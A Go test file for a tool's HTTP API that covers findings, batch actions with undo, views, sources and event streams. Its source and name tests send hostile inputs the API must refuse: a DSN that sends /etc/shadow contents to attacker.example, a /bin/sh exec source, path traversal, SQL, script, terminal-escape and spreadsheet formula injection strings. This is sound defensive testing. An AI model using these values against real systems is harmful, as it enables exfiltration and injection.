package api_test

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/droverhq/drover/internal/engine"
)

var actKeys int

// act makes a call that changes something, under a key of its own, and reads its
// JSON.
func (b *bench) act(t testing.TB, want int, method, target, body string, headers ...string) map[string]any {
	t.Helper()
	actKeys++
	w := b.call(t, method, "/api/v1"+target, body, append(headers, "Idempotency-Key", fmt.Sprintf("%s-%d", t.Name(), actKeys))...)
	if w.Code != want {
		t.Fatalf("%s %s: %d, want %d\n%s", method, target, w.Code, want, w.Body)
	}
	if w.Body.Len() == 0 {
		return nil
	}
	return object(t, w.Body.Bytes())
}

func (b *bench) refuses(t testing.TB, code, method, target, body string, headers ...string) {
	t.Helper()
	actKeys++
	b.refused(t, code, method, "/api/v1"+target, body, append(headers, "Idempotency-Key", fmt.Sprintf("%s-%d", t.Name(), actKeys))...)
}

func (b *bench) count(t testing.TB, filter string) float64 {
	t.Helper()
	return b.get(t, "/api/v1/findings?page_size=0&filter="+url.QueryEscape(filter))["total_size"].(float64)
}

func TestDecisions(t *testing.T) {
	b := open(t, demoOf(t))
	id := b.get(t, "/api/v1/findings?page_size=1&filter=severity%3Dmedium")["items"].([]any)[0].(map[string]any)["id"].(string)
	accept := `{"reason":"replaced in Q1","approver":"Grace","until":"30d"}`
	v := b.act(t, 200, "POST", "/findings/"+id+":accept", accept)
	if v["schema"] != "drover/v1/decision" || v["findings"].([]any)[0] != id || v["until"] == nil {
		t.Errorf("got %v", v)
	}
	if n := b.count(t, "state=accepted id="+id); n != 1 {
		t.Errorf("%v findings %s are accepted", n, id)
	}
	if n := b.get(t, "/api/v1/exceptions")["total_size"].(float64); n < 1 {
		t.Errorf("%v exceptions", n)
	}
	b.act(t, 200, "POST", "/findings/"+id+":reopen", `{"reason":"the vendor has a fix"}`)
	b.act(t, 200, "POST", "/findings/"+id+":assign", `{"to":"team-bi"}`)
	if n := b.count(t, "assignee=team-bi"); n != 1 {
		t.Errorf("%v findings are assigned", n)
	}
	b.refuses(t, "conflict", "POST", "/findings/"+id+":reopen", `{}`)
	b.refuses(t, "invalid", "POST", "/findings/"+id+":accept", `{"reason":"x","approver":"Grace","until":"30d"}`)
	b.refuses(t, "invalid", "POST", "/findings/"+id+":accept", `{"reason":"a reason","approver":"Grace","until":"soon"}`)
	b.refuses(t, "not_found", "POST", "/findings/F-NOTHING:accept", accept)
	b.refuses(t, "method_not_allowed", "POST", "/findings/"+id+":destroy", accept)
	b.refuses(t, "invalid", "POST", "/findings/"+id+":assign", `{"to":"`+strings.Repeat("x", 300)+`"}`)
	tl := b.get(t, "/api/v1/identities/"+url.PathEscape(b.get(t, "/api/v1/findings/"+id)["finding"].(map[string]any)["subject"].(map[string]any)["ref"].(string))+"/timeline")
	kinds := map[string]bool{}
	for _, i := range tl["items"].([]any) {
		kinds[i.(map[string]any)["kind"].(string)] = true
	}
	for _, k := range []string{"seen", "found", "accepted", "reopened", "assigned"} {
		if !kinds[k] {
			t.Errorf("the timeline tells no %q: %v", k, kinds)
		}
	}
}

// A batch does what it can, says of each item what came of it, and is taken back.
func TestBatchAndUndo(t *testing.T) {
	b := open(t, demoOf(t))
	before := b.count(t, "state=accepted")
	var ids []string
	for _, f := range b.get(t, "/api/v1/findings?page_size=3&filter=severity%3Dmedium")["items"].([]any) {
		ids = append(ids, f.(map[string]any)["id"].(string))
	}
	hostile := "F-\x1b[31m\u202e<script>"
	raw, _ := json.Marshal(append(ids, "F-NOTHING", hostile))
	body := fmt.Sprintf(`{"action":"accept","ids":%s,"reason":"accepted at once","approver":"Grace","until":"30d"`, raw)
	p := b.act(t, 207, "POST", "/findings:batch", body+`,"preview":true}`)
	if p["done"] != 3.0 || p["refused"] != 2.0 || p["operation"] != "" || b.count(t, "state=accepted") != before {
		t.Errorf("a preview decided: %v", p)
	}
	v := b.act(t, 207, "POST", "/findings:batch", body+"}")
	if v["done"] != 3.0 || v["refused"] != 2.0 || v["total"] != 5.0 {
		t.Errorf("got %v", v)
	}
	for _, i := range v["items"].([]any) {
		item := i.(map[string]any)
		if want := map[bool]string{true: "refused", false: "done"}[strings.HasPrefix(item["id"].(string), "F-NOTHING") || item["id"] == hostile]; item["state"] != want {
			t.Errorf("%v: want %s", item, want)
		}
		if item["state"] == "refused" && item["code"] != "not_found" {
			t.Errorf("%v: want not_found", item)
		}
	}
	if n := b.count(t, "state=accepted"); n != before+3 {
		t.Errorf("%v are accepted, were %v", n, before)
	}
	op := v["operation"].(string)
	if got := b.get(t, "/api/v1/operations/"+op); got["state"] != "done" || got["undo_until"] == nil || got["kind"] != "finding.accept" {
		t.Errorf("got %v", got)
	}
	b.act(t, 200, "POST", "/findings/"+ids[0]+":reopen", `{}`) // somebody is faster
	u := b.act(t, 207, "POST", "/operations/"+op+":undo", "")
	if u["done"] != 2.0 || u["refused"] != 1.0 {
		t.Errorf("taken back: got %v", u)
	}
	if n := b.count(t, "state=accepted"); n != before {
		t.Errorf("%v are accepted after it was taken back, were %v", n, before)
	}
	b.refuses(t, "conflict", "POST", "/operations/"+op+":undo", "")
	b.refuses(t, "invalid", "POST", "/findings:batch", `{"action":"accept","ids":["F-1"],"filter":"a","reason":"both","approver":"G","until":"1d"}`)
	b.refuses(t, "invalid", "POST", "/findings:batch", `{"action":"delete","ids":["F-1"]}`)
	b.refuses(t, "filter_invalid", "POST", "/findings:batch", `{"action":"assign","filter":"a AND","to":"x"}`)

	all := b.act(t, 207, "POST", "/findings:batch", `{"action":"assign","filter":"severity=medium","to":"team-bi"}`)
	if all["done"] != b.count(t, "assignee=team-bi state=open,regressed,unchecked") || all["done"] == 0.0 {
		t.Errorf("assigned %v, the list has %v", all["done"], b.count(t, "assignee=team-bi"))
	}
	b.act(t, 207, "POST", "/operations/"+all["operation"].(string)+":undo", "")
	if n := b.count(t, "assignee=team-bi"); n != 0 {
		t.Errorf("%v are still assigned", n)
	}
}

func TestBatchIdentities(t *testing.T) {
	b := open(t, demoOf(t))
	total := func(filter string) float64 {
		return b.get(t, "/api/v1/identities?page_size=0&filter="+url.QueryEscape(filter))["total_size"].(float64)
	}
	bots := total("nhi_type=bot")
	if bots < 2 {
		t.Fatal("no bots in the demo: nothing would be changed")
	}
	v := b.act(t, 207, "POST", "/identities:batch", `{"action":"tag","filter":"nhi_type=bot","set":{"wave":"first"}}`)
	if v["done"] != bots || total("tag=wave:first") != bots && total("tag:wave") != bots {
		t.Errorf("tagged %v of %v, the list has %v", v["done"], bots, total("tag:wave"))
	}
	b.act(t, 207, "POST", "/operations/"+v["operation"].(string)+":undo", "")
	if n := total("tag:wave"); n != 0 {
		t.Errorf("%v are still tagged", n)
	}
	owner := b.get(t, "/api/v1/owners?page_size=1")["items"].([]any)[0].(map[string]any)["name"].(string)
	before := total("owner=\"" + owner + "\"")
	o := b.act(t, 207, "POST", "/identities:batch", fmt.Sprintf(`{"action":"owner","filter":"nhi_type=bot","owner":%q}`, owner))
	if o["done"] != bots || total("nhi_type=bot owner=\""+owner+"\"") != bots {
		t.Errorf("got %v", o)
	}
	b.act(t, 207, "POST", "/operations/"+o["operation"].(string)+":undo", "")
	if n := total("owner=\"" + owner + "\""); n != before {
		t.Errorf("%s owns %v, owned %v", owner, n, before)
	}
	b.refuses(t, "invalid", "POST", "/identities:batch", `{"action":"tag","filter":"","set":{"owner":"me"}}`)
	b.refuses(t, "invalid", "POST", "/identities:batch", `{"action":"tag","filter":"","set":{}}`)
}

func TestOwnerCalls(t *testing.T) {
	b := open(t, demoOf(t))
	id := b.get(t, "/api/v1/identities?page_size=1&filter=nhi_type%3Dbot")["items"].([]any)[0].(map[string]any)["id"].(string)
	owner := b.get(t, "/api/v1/owners?page_size=1")["items"].([]any)[0].(map[string]any)["name"].(string)
	w := b.call(t, "GET", "/api/v1/identities/"+id+"/owner", "")
	tag := w.Header().Get("ETag")
	body := fmt.Sprintf(`{"owner":%q,"reason":"handed over"}`, owner)
	b.refuses(t, "precondition_required", "PUT", "/identities/"+id+"/owner", body)
	v := b.act(t, 200, "PUT", "/identities/"+id+"/owner", body, "If-Match", tag)
	if v["changed"].([]any)[0].(map[string]any)["owner"] != owner {
		t.Errorf("got %v", v)
	}
	b.refuses(t, "precondition_failed", "PUT", "/identities/"+id+"/owner", body, "If-Match", `W/"0-old"`)
	b.act(t, 200, "POST", "/identities/"+id+"/owner:confirm", "")
	b.refuses(t, "not_found", "POST", "/identities/nothing-is-called-so/owner:confirm", "")
	b.refuses(t, "not_found", "PUT", "/identities/"+id+"/owner", `{"owner":"nobody-is-called-so"}`, "If-Match", "*")
}

func TestViewCalls(t *testing.T) {
	b := open(t, demoOf(t))
	list := b.get(t, "/api/v1/views")
	if list["total_size"] != 12.0 {
		t.Fatalf("%v views are shipped", list["total_size"])
	}
	empty := 0
	for _, x := range list["items"].([]any) {
		v := x.(map[string]any)
		got := b.get(t, "/api/v1/"+v["noun"].(string)+"?page_size=0&order_by="+url.QueryEscape(v["sort"].(string))+"&filter="+url.QueryEscape(v["filter"].(string)))
		if got["total_size"] == 0.0 {
			empty++
		}
	}
	if empty > 4 {
		t.Errorf("%d of 12 shipped views show nothing of the demo", empty)
	}
	v := b.act(t, 201, "POST", "/views", `{"name":"Mine & yours","noun":"identities","filter":"env=prod","columns":["name","owner"],"share":"org"}`)
	target := "/views/" + v["id"].(string)
	w := b.call(t, "GET", "/api/v1"+target, "")
	tag := w.Header().Get("ETag")
	b.refuses(t, "precondition_required", "PUT", target, `{"name":"x"}`)
	c := b.act(t, 200, "PUT", target, `{"name":"Mine","filter":"env=dev"}`, "If-Match", tag)
	if c["version"] != 2.0 || c["filter"] != "env=dev" {
		t.Errorf("got %v", c)
	}
	b.refuses(t, "precondition_failed", "PUT", target, `{"name":"x"}`, "If-Match", tag)
	b.refuses(t, "precondition_failed", "DELETE", target, "", "If-Match", tag)
	if w := b.act(t, 200, "POST", target+":watch", ""); w["watched"] != true || w["news"] != nil {
		t.Errorf("got %v", w)
	}
	if one := b.get(t, "/api/v1/home")["watched"].([]any); len(one) != 1 || one[0].(map[string]any)["added"] != 0.0 {
		t.Errorf("the first page tells of %v", one)
	}
	if w := b.act(t, 200, "POST", target+":unwatch", ""); w["watched"] != false {
		t.Errorf("got %v", w)
	}
	b.refuses(t, "not_found", "POST", target+":unwatch", "")
	b.refuses(t, "not_found", "POST", "/views/nosuchview:watch", "")
	b.refuses(t, "permission", "PUT", "/views/unowned", `{"name":"x"}`, "If-Match", "*")
	b.refuses(t, "filter_invalid", "POST", "/views", `{"name":"x","filter":"ownr:none"}`)
	b.refuses(t, "invalid", "POST", "/views", `{"name":"a\u001b[31m"}`)
	b.refuses(t, "invalid", "POST", "/views", `{"name":"x","more":1}`)
	b.act(t, 204, "DELETE", target, "", "If-Match", "*")
	b.refused(t, "not_found", "GET", "/api/v1"+target, "")
}

func TestSourceCalls(t *testing.T) {
	b := open(t, t.TempDir())
	kinds := b.get(t, "/api/v1/connectors?page_size=100")
	for _, x := range kinds["items"].([]any) {
		c := x.(map[string]any)
		if c["title"] == "" || len(c["options"].([]any)) == 0 || len(c["scopes"].([]any)) == 0 {
			t.Errorf("no form can be made of %v", c["name"])
		}
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "people.csv"), []byte("email,name\nann@acme.example,Ann\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	good, _ := json.Marshal(map[string]any{"id": "hr", "kind": "file", "options": map[string][]string{"paths": {filepath.Join(dir, "people.csv")}, "mapping": {"hr"}}})
	if v := b.act(t, 200, "POST", "/sources:test", string(good)); v["done"] != "tested" {
		t.Errorf("test of what is not configured yet: got %v", v)
	}
	if n := b.get(t, "/api/v1/sources")["total_size"]; n != 0.0 {
		t.Errorf("a test kept %v sources", n)
	}
	b.act(t, 201, "POST", "/sources", string(good))
	if v := b.act(t, 200, "POST", "/sources/hr:test", ""); v["done"] != "tested" {
		t.Errorf("got %v", v)
	}
	if n := b.get(t, "/api/v1/reads?word=hr")["total_size"].(float64); n < 1 {
		t.Errorf("%v reads", n)
	}
	if p := b.get(t, "/api/v1/sources/hr/perms"); len(p["scopes"].([]any)) == 0 {
		t.Errorf("got %v", p)
	}
	b.get(t, "/api/v1/sources/detected")
	for body, code := range map[string]string{
		`{"id":"x","kind":"exec","options":{"command":["/bin/sh"]}}`:                                             "permission",
		`{"id":"x","kind":"kubernetes","options":{"context":["a"],"ca_file":["/tmp/ca.pem"]}}`:                   "permission",
		`{"id":"x","kind":"aws","options":{"endpoint":["https://attacker.example"],"profile":["a"]}}`:            "permission",
		`{"id":"x","kind":"git","options":{"paths":["${file:/etc/shadow}"]}}`:                                    "permission",
		`{"id":"x","kind":"postgres","options":{"dsn":["postgres://u:p@attacker.example/${file:/etc/shadow}"]}}`: "permission",
		`{"id":"x","kind":"postgres","options":{"dsn":["postgres://u:password@db.example/x"]}}`:                  "invalid",
		`{"id":"x","kind":"nosuch"}`:                               "invalid",
		`{"id":"../x","kind":"file","options":{"paths":["/tmp"]}}`: "invalid",
	} {
		b.refuses(t, code, "POST", "/sources", body)
		b.refuses(t, code, "POST", "/sources:test", body)
	}
	op := b.act(t, 202, "POST", "/scans", `{"words":["hr"],"checks":false}`)
	done, err := b.engine.WaitOperation(t.Context(), op["id"].(string))
	if err != nil || done.State != engine.OpDone {
		t.Fatalf("got %+v, %v", done, err)
	}
	var out engine.ScanOutcome
	if err := json.Unmarshal(done.Result, &out); err != nil {
		t.Fatal(err)
	}
	if s := b.get(t, "/api/v1/scans/"+out.Scan.ID); s["status"] != "ok" {
		t.Errorf("got %v", s)
	}
	if n := b.get(t, "/api/v1/scans")["total_size"]; n != 1.0 {
		t.Errorf("%v scans", n)
	}
	d := b.get(t, "/api/v1/sources/hr")
	if len(d["sections"].([]any)) == 0 || d["source"].(map[string]any)["last_status"] != "ok" {
		t.Errorf("got %v", d)
	}
	for _, word := range []string{"/etc", "./x", "~", "nosuch", dir} {
		raw, _ := json.Marshal(map[string]any{"words": []string{word}})
		b.refuses(t, "invalid", "POST", "/scans", string(raw))
		b.refused(t, "invalid", "GET", "/api/v1/reads?word="+url.QueryEscape(word), "")
	}
	b.act(t, 200, "POST", "/sources/hr:disable", "")
	if got := b.get(t, "/api/v1/sources/hr")["source"].(map[string]any)["state"]; got != "disabled" {
		t.Errorf("got %v", got)
	}
	b.act(t, 200, "POST", "/sources/hr:enable", "")
	b.refuses(t, "precondition_required", "DELETE", "/sources/hr", "")
	b.act(t, 200, "DELETE", "/sources/hr", "", "If-Match", b.call(t, "GET", "/api/v1/sources/hr", "").Header().Get("ETag"))
}

// A stream tells what happens; who comes back with the id of the last event that
// was read misses none, and who comes back from before a restart is told to begin
// anew.
func TestEventStream(t *testing.T) {
	home := demoOf(t)
	b := open(t, home)
	server := httptest.NewServer(b)
	defer server.Close()
	first := listen(t, server.URL, "", "kind=finding.decided")
	begin := first.next(t, "") // the place where the stream begins
	id := b.get(t, "/api/v1/findings?page_size=1")["items"].([]any)[0].(map[string]any)["id"].(string)
	b.act(t, 200, "POST", "/findings/"+id+":assign", `{"to":"one"}`)
	one := first.next(t, "finding.decided")
	if !strings.Contains(one.data, id) || one.id == "" {
		t.Errorf("got %+v", one)
	}
	first.cancel()
	b.act(t, 200, "POST", "/findings/"+id+":assign", `{"to":"two"}`)
	again := listen(t, server.URL, one.id, "kind=finding.decided")
	again.next(t, "")
	two := again.next(t, "finding.decided")
	if two.id <= one.id && len(two.id) <= len(one.id) {
		t.Errorf("after %s came %s", one.id, two.id)
	}
	again.cancel()
	replay := listen(t, server.URL, begin.id, "kind=finding.decided")
	replay.next(t, "")
	if got := replay.next(t, "finding.decided"); got.id != one.id {
		t.Errorf("replayed from the beginning: got %s, want %s", got.id, one.id)
	}
	replay.cancel()
	b.refused(t, "filter_invalid", "GET", "/api/v1/events?filter=color%3Dred", "")
	b.refused(t, "invalid", "GET", "/api/v1/events", "", "Last-Event-ID", "yesterday")

	// After a restart.
	server.Close()
	if err := b.engine.Close(); err != nil {
		t.Fatal(err)
	}
	b2 := open(t, home)
	server2 := httptest.NewServer(b2)
	defer server2.Close()
	late := listen(t, server2.URL, two.id, "kind=finding.decided")
	late.next(t, "")
	reset := late.next(t, "reset")
	if len(reset.id) < len(two.id) || len(reset.id) == len(two.id) && reset.id <= two.id {
		t.Errorf("ids began anew: %s after %s", reset.id, two.id)
	}
	late.cancel()
}

type sse struct{ id, event, data string }

type listener struct {
	lines  *bufio.Scanner
	cancel context.CancelFunc
}

func listen(t *testing.T, base, last, filter string) *listener {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	r, err := http.NewRequestWithContext(ctx, "GET", base+"/api/v1/events?filter="+url.QueryEscape(filter), nil)
	if err != nil {
		t.Fatal(err)
	}
	if last != "" {
		r.Header.Set("Last-Event-ID", last)
	}
	w, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cancel(); w.Body.Close() })
	if got := w.Header.Get("Content-Type"); w.StatusCode != 200 || got != "text/event-stream" {
		t.Fatalf("events: %d %s", w.StatusCode, got)
	}
	return &listener{bufio.NewScanner(w.Body), cancel}
}

// next reads up to the next event of a kind; "" is the place without an event.
func (l *listener) next(t *testing.T, kind string) sse {
	t.Helper()
	var e sse
	for l.lines.Scan() {
		line := l.lines.Text()
		name, value, _ := strings.Cut(line, ": ")
		switch name {
		case "id":
			e.id = value
		case "event":
			e.event = value
		case "data":
			e.data = value
		case "":
			if e.event == kind && e.id != "" {
				return e
			}
			e = sse{}
		}
	}
	t.Fatalf("the stream ended before %q: %v", kind, l.lines.Err())
	return e
}

// Names that a scanned system chose are text in every path and answer.
func TestHostileNames(t *testing.T) {
	b := open(t, demoOf(t))
	for _, name := range []string{"a\x00b", "\x1b[31m", "../../etc/passwd", "' OR 1=1 --", "\u202egpj", "<script>", "%2e%2e", strings.Repeat("x", 4000), "=cmd|' /C calc'!A0", "a/b?c#d"} {
		for _, path := range []string{"/identities/%s/blast-radius", "/identities/%s/timeline", "/identities/%s/owner", "/findings/%s", "/fixes/%s", "/checks/%s", "/views/%s", "/sources/%s", "/operations/%s", "/scans/%s"} {
			w := b.call(t, "GET", "/api/v1"+fmt.Sprintf(path, url.PathEscape(name)), "")
			if w.Code != 404 && w.Code != 400 {
				t.Errorf("%s of %q: %d\n%.300s", path, name, w.Code, w.Body)
			}
			if strings.ContainsAny(w.Body.String(), "\x00\x1b\u202e") {
				t.Errorf("%s of %q: the answer holds what a terminal acts on", path, name)
			}
		}
		for _, path := range []string{"/paths?from=%[1]s&to=%[1]s", "/why?id=%[1]s&resource=%[1]s", "/who-can?resource=%s", "/cut?from=%s", "/graph/rings?from=%s", "/graph/map?filter=%s", "/reached?to=%s", "/risks?filter=%s"} {
			if w := b.call(t, "GET", "/api/v1"+fmt.Sprintf(path, url.QueryEscape(name)), ""); w.Code >= 500 {
				t.Errorf("%s of %q: %d\n%.300s", path, name, w.Code, w.Body)
			}
		}
	}
}
